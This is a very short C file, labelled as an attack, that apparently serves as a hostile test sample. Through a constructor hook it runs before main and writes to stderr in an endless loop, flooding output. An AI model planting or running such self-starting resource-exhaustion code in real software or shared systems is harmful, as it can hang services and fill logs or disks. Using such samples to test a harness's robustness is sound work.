/* Attack: flood stderr. */
#include <stdio.h>
__attribute__((constructor)) static void flood(void)
{
    for (;;) fputs("flood flood flood flood flood flood flood flood flood flood flood flood\n", stderr);
}
